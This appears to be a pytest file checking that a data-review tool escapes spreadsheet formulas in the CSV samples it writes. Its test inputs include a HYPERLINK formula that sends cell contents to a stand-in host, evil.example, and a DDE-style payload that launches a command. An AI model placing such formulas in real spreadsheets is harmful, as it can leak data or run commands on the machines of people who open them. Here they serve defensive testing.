"""What a sample is on disk."""

import csv
import re

import pyarrow as pa
import pytest

from lakewinnow.lake.files import Files
from lakewinnow.review import files

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
)
TEXTS = ("row_id", "text", "given_label", "predicted_label", "suggested_label")
HARMLESS = ("a = b", "-1", "+2.50", "", "'quoted'", "mine;=1+1", 'say "no"')


def written(tmp_path, values):
    numbers = {"text_length": 9, "predicted_prob": 0.5, "suggested_prob": 0.5}
    rows = [dict.fromkeys(TEXTS, value) | numbers for value in values]
    likely = [[{"label": value, "prob": 0.25}] for value in values]
    table = pa.Table.from_pylist(rows).append_column("likely_labels", pa.array(likely))
    said = [[{"annotator": "=ann", "label": value, "quality": 0.5}] for value in values]
    table = table.append_column("opinions", pa.array(said))
    table = table.append_column("nearest", pa.array([[]] * len(rows)))
    record = {"id": "0123456789abcdef", "classes": sorted(set(values))}
    files.write(Files(str(tmp_path)), files.SAMPLE, record, table, redraw=False)
    return (tmp_path / "review_sample" / "sample.csv").read_bytes().decode()


@pytest.mark.parametrize("value", FORMULAS)
def test_number_17_no_cell_of_the_sample_is_a_formula(tmp_path, value):
    text = written(tmp_path, [value])
    [row] = csv.DictReader(text.splitlines(keepends=True))
    assert row["predicted_prob"] == "0.5"
    for name in TEXTS:
        assert row[name] == f"'{value}"
    assert row["likely_labels"] == f"'{value} 0.250"
    assert row["opinions"] == f"'=ann: {value}"


def test_other_values_stay_as_they_are(tmp_path):
    found = list(csv.DictReader(written(tmp_path, HARMLESS).splitlines()))
    assert [row["text"] for row in found] == list(HARMLESS)
    assert [row["row_id"] for row in found] == list(HARMLESS)


def test_no_cell_ends_at_a_semicolon(tmp_path):
    """Excel takes semicolons for the ends of cells where people write decimals with a comma."""
    text = written(tmp_path, HARMLESS)
    assert not re.search(r"(^|;)[=+@-]", re.sub(r'"(?:[^"]|"")*"', "", text))
